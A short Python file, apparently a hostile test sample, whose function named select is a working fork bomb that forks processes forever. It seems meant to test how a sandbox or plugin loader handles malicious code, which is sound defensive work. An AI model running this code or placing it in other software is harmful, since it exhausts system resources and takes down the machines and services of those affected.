"""Hostile: a fork bomb."""

import os


def select(q, k, **info):
    """Fork forever."""
    while True:
        os.fork()
